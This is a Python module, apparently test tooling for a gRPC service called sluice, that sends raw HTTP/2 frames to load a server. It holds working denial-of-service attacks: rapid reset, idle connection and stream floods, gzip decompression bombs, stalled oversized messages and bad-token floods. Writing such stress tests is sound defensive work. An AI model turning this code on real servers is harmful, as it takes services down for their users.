@@ -1,0 +1,245 @@
+"""Clients that speak HTTP/2 by hand, to send what no library would. beside.py starts them as a process of their own:
+
+http2.py HOST:PORT ATTACK COUNT
+
+Prints "at work" once its load stands, "done" when it has done its COUNT, and stays until stdin is closed. A server that closes
+a connection has answered: the attack goes on with the next one, as long as that is accepted.
+"""
+
+import gzip
+import socket
+import struct
+import sys
+import time
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
+END_STREAM, END_HEADERS = 1, 4
+GENERATE = "/sluice.v1.GenerationService/Generate"
+TOKENIZE = "/sluice.v1.GenerationService/Tokenize"
+SESSION = "/sluice.v1.GenerationSessionService/OpenSession"
+WATCH = "/grpc.health.v1.Health/Watch"
+REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def text(value):
+    """A string of HPACK (RFC 7541, 5.2), not Huffman coded."""
+    if isinstance(value, str):
+        value = value.encode()
+    if len(value) < 127:
+        return bytes([len(value)]) + value
+    rest, length = len(value) - 127, b"\x7f"
+    while rest >= 128:
+        length += bytes([rest % 128 + 128])
+        rest //= 128
+    return length + bytes([rest]) + value
+
+
+def fields(path, *more):
+    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "it"),
+            ("content-type", "application/grpc"), ("te", "trailers"), *more]
+
+
+def block(headers):
+    """Headers that go into the table of what may be named by a number."""
+    return b"".join(b"\x40" + text(name) + text(value) for name, value in headers)
+
+
+def named(count):
+    """The same headers once more, by their numbers."""
+    return bytes(0x80 + 61 + count - i for i in range(count))
+
+
+def message(payload, compressed=False):
+    return bytes([compressed]) + struct.pack(">I", len(payload)) + payload
+
+
+class Connection:
+    def __init__(self, endpoint):
+        host, port = endpoint.rsplit(":", 1)
+        self.socket = socket.create_connection((host, int(port)), 10)
+        self.socket.settimeout(10)
+        self.sent = 0
+        self.stream = -1
+
+    def open(self):
+        self.send(PREFACE + frame(SETTINGS, 0, 0))
+        return self
+
+    def next_stream(self):
+        self.stream += 2
+        return self.stream
+
+    def send(self, data):
+        self.socket.sendall(data)
+        self.sent += len(data)
+
+    def read_some(self):
+        """What the server says, thrown away; False once it has closed the connection."""
+        try:
+            self.socket.setblocking(False)
+            while True:
+                if not self.socket.recv(1 << 16):
+                    return False
+        except (BlockingIOError, socket.timeout):
+            return True
+        except OSError:
+            return False
+        finally:
+            self.socket.settimeout(10)
+
+    def close(self):
+        self.socket.close()
+
+
+def say(word):
+    print(word, flush=True)
+
+
+def idle_connections(endpoint, count):
+    """COUNT connections that say nothing."""
+    kept = []
+    for _ in range(count):
+        try:
+            kept.append(Connection(endpoint))
+        except OSError:
+            time.sleep(0.001)
+    say("at work")
+    return kept
+
+
+def rapid_reset(endpoint, count):
+    """COUNT streams of one connection, and of the next where it is closed, each reset as soon as it is begun."""
+    say("at work")
+    headers, done, pauses = fields(GENERATE), 0, 0
+    while done < count:
+        try:
+            connection = Connection(endpoint).open()
+            stream = connection.next_stream()
+            connection.send(frame(HEADERS, END_HEADERS, stream, block(headers)) +
+                            frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
+            while done < count:
+                parts = []
+                for _ in range(1000):
+                    stream = connection.next_stream()
+                    parts.append(frame(HEADERS, END_HEADERS, stream, named(len(headers))))
+                    parts.append(frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
+                connection.send(b"".join(parts))
+                done += 1000
+                if not connection.read_some():
+                    break
+        except OSError:
+            pauses += 1
+            if pauses > 2000:  # it is not let in any longer
+                return None
+            time.sleep(0.001)
+    return None
+
+
+def idle_streams(path):
+    def attack(endpoint, count):
+        """COUNT streams that are begun and say no more, a thousand to a connection."""
+        kept, headers, begun, refused = [], fields(path), 0, 0
+        while begun < count and refused < 200:
+            try:
+                connection = Connection(endpoint).open()
+                kept.append(connection)
+                parts = [frame(HEADERS, END_HEADERS, connection.next_stream(), block(headers))]
+                parts += [frame(HEADERS, END_HEADERS, connection.next_stream(), named(len(headers))) for _ in range(999)]
+                connection.send(b"".join(parts))
+                begun += 1000
+                connection.read_some()
+            except OSError:
+                refused += 1
+                time.sleep(0.001)
+        say("at work")
+        return kept
+    return attack
+
+
+def gzip_bombs(endpoint, count):
+    """COUNT small messages of 60 MB each."""
+    bomb = gzip.compress(bytes(60 << 20), 9)
+    say("at work")
+    for _ in range(count):
+        try:
+            connection = Connection(endpoint).open()
+            stream = connection.next_stream()
+            data = message(bomb, compressed=True)
+            connection.send(frame(HEADERS, END_HEADERS, stream, block(fields(TOKENIZE, ("grpc-encoding", "gzip")))))
+            for i in range(0, len(data), 16384):
+                connection.send(frame(DATA, 0, stream, data[i:i + 16384]))
+            connection.send(frame(DATA, END_STREAM, stream))
+            connection.read_some()
+        except OSError:
+            pass
+    return None
+
+
+def unfinished_messages(endpoint, count):
+    """COUNT messages of 30 MB without a token, of which the end is missing."""
+    kept = []
+    say("at work")
+    for _ in range(count):
+        try:
+            connection = Connection(endpoint).open()
+            stream = connection.next_stream()
+            connection.send(frame(HEADERS, END_HEADERS, stream, block(fields(TOKENIZE))))
+            connection.send(frame(DATA, 0, stream, bytes([0]) + struct.pack(">I", 30 << 20)))
+            connection.socket.settimeout(0.2)
+            for _ in range(1900):
+                connection.send(frame(DATA, 0, stream, bytes(16000)))
+            kept.append(connection)
+        except OSError:
+            pass
+    return kept
+
+
+def wrong_tokens(endpoint, count):
+    """COUNT calls with a token that is not known, a thousand a second."""
+    say("at work")
+    headers = fields(TOKENIZE, ("authorization", "Bearer nobody"))
+    connection, began, done = None, time.monotonic(), 0
+    while done < count:
+        try:
+            if connection is None:
+                connection = Connection(endpoint).open()
+                stream = connection.next_stream()
+                connection.send(frame(HEADERS, END_HEADERS, stream, block(headers)) +
+                                frame(DATA, END_STREAM, stream, message(b"")))
+            parts = []
+            for _ in range(20):
+                stream = connection.next_stream()
+                parts.append(frame(HEADERS, END_HEADERS, stream, named(len(headers))))
+                parts.append(frame(DATA, END_STREAM, stream, message(b"")))
+            connection.send(b"".join(parts))
+            done += 20
+            if not connection.read_some():
+                raise OSError
+        except OSError:
+            connection = None
+            time.sleep(0.001)
+        time.sleep(max(began + done / 1000 - time.monotonic(), 0))
+    return None
+
+
+ATTACKS = {
+    "idle_connections": idle_connections,
+    "rapid_reset": rapid_reset,
+    "idle_sessions": idle_streams(SESSION),
+    "idle_watches": idle_streams(WATCH),
+    "idle_reflections": idle_streams(REFLECTION),
+    "idle_calls": idle_streams(GENERATE),
+    "gzip_bombs": gzip_bombs,
+    "unfinished_messages": unfinished_messages,
+    "wrong_tokens": wrong_tokens,
+}
+
+if __name__ == "__main__":
+    kept_open = ATTACKS[sys.argv[2]](sys.argv[1], int(sys.argv[3]))
+    say("done")
+    sys.stdin.read()
